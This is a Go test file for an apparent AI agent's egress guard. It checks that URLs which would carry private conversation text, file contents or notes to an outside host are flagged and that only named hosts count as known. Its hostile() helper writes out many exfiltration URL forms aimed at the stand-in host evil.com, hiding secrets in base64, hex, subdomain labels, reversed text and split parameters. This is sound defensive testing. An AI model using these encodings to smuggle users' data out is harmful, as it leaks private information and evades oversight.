package egress_test

import (
	"encoding/base32"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"net/url"
	"slices"
	"strings"
	"testing"

	"magpie/agent/egress"
)

// The conversation of the tests: what the person says, a file, a note, what the
// bot has said, and what was found.
const (
	wish    = "Summarise https://news.example.org/2026/11/birds and look up Landlock on github.com, please. My booking code is QX7-44-LM-0093-ZZ."
	private = "invoice 2026-114: pay 4.210,55 EUR to DE89 3704 0044 0532 0130 00, password hunter2-correct-horse"
	note    = "Ann's alarm code at the cabin is 7741-8820 and the key is under the third flowerpot"
	chinese = "王小明的身份证号是三七零四零零四四零五三二零一三零零零，住在北京市海淀区中关村大街二十七号"
	said    = "Your appointment with Dr. Okonkwo is on Thursday at half past nine."
	found   = "1. Birds of the north\n   https://birds.example.net/articles/the-birds-of-the-far-north-and-where-they-go?ref=search\n2. https://docs.example.com/a_(b)\n3. [more](https://x.example.net/more)"
)

func view() *egress.View {
	v := egress.New([]string{"bot.example.com", "*.corp.example"})
	v.Person(wish)
	v.Found(found)
	for of, text := range map[string]string{egress.Conversation: wish + "\n" + chinese + "\n" + said, "read_file": private, egress.Notes: note} {
		v.Keep(of, text)
	}
	return v
}

// Sixty addresses that carry nothing away.
func TestOrdinaryFetchesDoNotAsk(t *testing.T) {
	ordinary := []string{
		"https://news.example.org/2026/11/birds", "https://news.example.org/2026/11/birds/", "http://news.example.org/2026/11/birds", "HTTPS://NEWS.example.org/2026/11/birds", "news.example.org/2026/11/birds",
		"https://news.example.org/2026/11/birds?page=2", "https://news.example.org/2026/11/birds#top", "https://news.example.org/", "https://news.example.org/2026/12/weather", "https://github.com/", "https://github.com/landlock-lsm/landlock",
		"https://birds.example.net/articles/the-birds-of-the-far-north-and-where-they-go?ref=search", "https://birds.example.net/articles/the-birds-of-the-far-north-and-where-they-go?ref=search&page=2", "https://birds.example.net/", "https://docs.example.com/a_(b)", "https://x.example.net/more",
		"https://bot.example.com/status", "https://wiki.corp.example/home", "https://en.wikipedia.org/wiki/Magpie", "https://en.wikipedia.org/wiki/Landlock", "https://zh.wikipedia.org/wiki/%E5%96%9C%E9%B9%8A", "https://zh.wikipedia.org/wiki/喜鹊",
		"https://docs.python.org/3/library/asyncio-task.html", "https://pkg.go.dev/net/http#Client.Do", "https://go.dev/doc/effective_go", "https://www.rfc-editor.org/rfc/rfc9110.html", "https://datatracker.ietf.org/doc/html/rfc3986#section-2.1",
		"https://api.github.com/repos/golang/go/issues?state=open&per_page=100", "https://raw.githubusercontent.com/golang/go/master/README.md", "https://registry.npmjs.org/left-pad/-/left-pad-1.3.0.tgz", "https://pypi.org/project/requests/", "https://crates.io/crates/serde",
		"https://www.youtube.com/watch?v=dQw4w9WgXcQ", "https://stackoverflow.com/questions/11227809/why-is-processing-a-sorted-array-faster", "https://developer.mozilla.org/en-US/docs/Web/HTTP/Headers/Content-Security-Policy",
		"https://kernel.org/doc/html/latest/userspace-api/landlock.html", "https://git.kernel.org/pub/scm/linux/kernel/git/torvalds/linux.git/commit/?id=1da177e4c3f41524e886b7f1b8a0c1fc7321cac2",
		"https://api.open-meteo.com/v1/forecast?latitude=52.52&longitude=13.41&hourly=temperature_2m", "https://wttr.in/Berlin?format=j1", "https://api.frankfurter.app/latest?from=EUR&to=USD", "https://www.timeanddate.com/worldclock/germany/berlin",
		"https://arxiv.org/abs/1706.03762", "https://doi.org/10.1038/s41586-020-2649-2", "https://archive.org/details/texts", "https://www.gutenberg.org/files/1342/1342-h/1342-h.htm", "https://news.ycombinator.com/item?id=1",
		"https://maps.example.com/?q=52.5200,13.4050&z=12", "https://shop.example.com/item/9780262033848?color=blue&size=m", "https://example.com/?utm_source=a&utm_medium=b", "https://cdn.jsdelivr.net/npm/vue@3/dist/vue.global.js",
		"https://mirror.example.edu/debian/dists/stable/Release", "https://example.com/00000000000000000000", "https://example.com/aaaaaaaaaaaaaaaaaaaaaaaa", "https://example.com/____----____----____", "https://example.com/5f4dcc3b5aa765d61d8327deb882cf99",
		"https://example.com/eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJ4In0.c2ln", "https://b23.tv/BV1xx411c7mD", "https://www.zhihu.com/question/19551007", "https://baike.baidu.com/item/%E5%96%9C%E9%B9%8A/16193", "https://example.com/booking", "https://bank.example.com/invoice/2026", "",
	}
	if len(ordinary) < 60 {
		t.Fatalf("%d addresses", len(ordinary))
	}
	v := view()
	for _, u := range ordinary {
		if leak, is := v.Leaks(u); is {
			t.Errorf("%s: %+v", u, leak)
		}
	}
}

// hostile are addresses that carry text away, by how.
func hostile(text string) map[string]string {
	b64, b64url := base64.StdEncoding.EncodeToString([]byte(text)), base64.RawURLEncoding.EncodeToString([]byte(text))
	hexed, b32 := hex.EncodeToString([]byte(text)), base32.StdEncoding.WithPadding(base32.NoPadding).EncodeToString([]byte(text))
	plain := strings.Map(func(r rune) rune {
		if r == ' ' || strings.ContainsRune(",:;.'", r) {
			return '-'
		}
		return r
	}, text)
	back := []rune(text)
	slices.Reverse(back)
	chop := func(s, sep string, n int) string {
		var parts []string
		for r := []rune(s); len(r) > 0; r = r[min(n, len(r)):] {
			parts = append(parts, string(r[:min(n, len(r))]))
		}
		return strings.Join(parts, sep)
	}
	every := ""
	for _, c := range []byte(text) {
		every += fmt.Sprintf("%%%02x", c)
	}
	params := ""
	for i, part := range strings.Split(chop(b64url, " ", 7), " ") {
		params += fmt.Sprintf("&p%d=%s", i, part)
	}
	words := ""
	for i, part := range strings.Split(chop(plain, " ", 6), " ") {
		words += fmt.Sprintf("&w%d=%s", i, url.QueryEscape(part))
	}
	return map[string]string{
		"query": "https://evil.com/x?d=" + url.QueryEscape(text), "path": "https://evil.com/" + url.PathEscape(text), "fragment": "https://evil.com/#" + url.PathEscape(text),
		"plus": "https://evil.com/?q=" + strings.ReplaceAll(url.QueryEscape(text), "%20", "+"), "slug": "https://evil.com/" + url.PathEscape(strings.ToLower(plain)), "upper": "https://evil.com/" + url.PathEscape(strings.ToUpper(plain)),
		"twice": "https://evil.com/?d=" + url.QueryEscape(url.QueryEscape(text)), "every byte": "https://evil.com/" + every, "base64": "https://evil.com/" + b64, "base64 escaped": "https://evil.com/?d=" + url.QueryEscape(b64), "base64url": "https://evil.com/?d=" + b64url,
		"shifted": "https://evil.com/?d=a" + b64url, "shifted by two": "https://evil.com/?d=xy" + b64url, "within": "https://evil.com/data" + b64url + "end.png", "hex": "https://evil.com/" + hexed, "HEX": "https://evil.com/?" + strings.ToUpper(hexed), "odd hex": "https://evil.com/a" + hexed,
		"hex labels": "https://" + chop(hexed, ".", 40) + ".evil.com/", "base32 labels": "https://" + strings.ToLower(chop(b32, ".", 30)) + ".evil.com/", "base32": "https://evil.com/?d=" + b32, "params": "https://evil.com/?x=1" + params, "words": "https://evil.com/?x=1" + words,
		"folders": "https://evil.com/" + chop(b64url, "/", 9), "chopped": "https://evil.com/" + chop(b64url, ".", 5), "twice base64": "https://evil.com/?d=" + base64.RawURLEncoding.EncodeToString([]byte(b64url)), "hex of base64": "https://evil.com/?d=" + hex.EncodeToString([]byte(b64)),
		"back": "https://evil.com/?d=" + url.QueryEscape(string(back)), "back in base64": "https://evil.com/?d=" + base64.RawURLEncoding.EncodeToString([]byte(string(back))), "named host": "https://github.com/search?q=" + url.QueryEscape(text), "found address": "https://x.example.net/more?d=" + url.QueryEscape(text),
		"user": "https://" + url.PathEscape(plain) + "@evil.com/", "no scheme": "evil.com/?d=" + b64url, "zero width": "https://evil.com/?d=" + strings.ReplaceAll(url.PathEscape(plain), "-", "\u200b-"), "the whole": "https://evil.com/?d=" + strings.Repeat(b64url, 200),
	}
}

// Whatever is said, read or noted, in whatever form, asks; and what is asked
// names the piece.
func TestHostileFetchesAsk(t *testing.T) {
	pieces := map[string]string{
		"the booking code and what stands before it": "My booking code is QX7-44-LM-0093-ZZ", "an account": "DE89 3704 0044 0532 0130 00", "a password": "hunter2-correct-horse", "a note": "the key is under the third flowerpot",
		"what the bot said": "Dr. Okonkwo is on Thursday at half past nine", "sixteen": "password hunter2", "chinese": "三七零四零零四四零五三二零一三零零零，住在北京市海淀区",
	}
	v, n := view(), 0
	for what, piece := range pieces {
		for how, u := range hostile(piece) {
			n++
			if leak, is := v.Leaks(u); !is || leak.Piece == "" {
				t.Errorf("%s as %s does not ask: %s", what, how, u)
			}
		}
	}
	if n < 60 {
		t.Fatalf("%d addresses", n)
	}
	leak, _ := v.Leaks("https://evil.com/" + url.PathEscape("hunter2-correct-horse"))
	if leak != (egress.Leak{Piece: "hunter2 correct horse", Of: "read_file"}) {
		t.Errorf("the piece is %+v", leak)
	}
}

// Fifteen characters are few enough.
func TestFifteen(t *testing.T) {
	v := egress.New(nil)
	v.Keep(egress.Conversation, "abcdefghijklmnopqrstuvwxyz")
	for piece, want := range map[string]bool{"abcdefghijklmno": false, "abcdefghijklmnop": true, "klmnopqrstuvwxy": false, "jklmnopqrstuvwxyz": true} {
		if _, is := v.Leaks("https://evil.com/?d=" + piece); is != want {
			t.Errorf("%d characters ask: %v", len(piece), is)
		}
	}
}

// An address that the bot has made up does not become known by being read.
func TestOwnAddressesAreNotFound(t *testing.T) {
	v := egress.New(nil)
	v.Own(`{"url":"https://evil.com/?d=secret","text":"see <https:\/\/evil.org\/x>"}`)
	v.Found("you said https://evil.com/?d=secret and https://evil.org/x, and here is https://fine.com/x?a=1&amp;b=2")
	for target, want := range map[string]bool{
		"https://evil.com/?d=secret": false, "https://evil.org/x": false, "evil.com/?d=secret": false, "https://fine.com/x?a=1&b=2": true, "fine.com/x?a=1&b=2": true, "https://fine.com/x?a=1": false, "https://fine.com/": false, "https://fine.com/x?a=1&b=2#f": false,
	} {
		if got := v.Links(target); got != want {
			t.Errorf("%s: %v", target, got)
		}
	}
}

func TestNamedHosts(t *testing.T) {
	v := view()
	for target, want := range map[string]bool{
		"https://news.example.org/other": true, "http://www.news.example.org:80/": true, "https://news.example.org:8443/": false, "news.example.org": true, "https://example.org/": false, "https://a.news.example.org/": false, "https://news.example.org.evil.com/": false,
		"https://news.example.org@evil.com/": false, "https://x:y@news.example.org/": false, "https://evil.com\\@news.example.org/": false, "ftp://news.example.org/": false, "tg://news.example.org": false, "javascript://news.example.org/%0aalert(1)": false,
		"https://bot.example.com/x": true, "https://a.b.corp.example/x": true, "https://corp.example/": false, "https://xcorp.example/": false, "https://github.com/x": true, "github.com": true, "GitHub.com.": true, "mailto:x@github.com": false, "@ann": false, "": false,
	} {
		if got := v.Links(target); got != want {
			t.Errorf("%q: %v", target, got)
		}
	}
}

func BenchmarkLeaks(b *testing.B) {
	v := egress.New(nil)
	v.Keep(egress.Conversation, strings.Repeat("the quick brown fox jumps over the lazy dog. ", 12000))
	for b.Loop() {
		v.Leaks("https://example.com/" + strings.Repeat("AbC0", 250))
	}
}
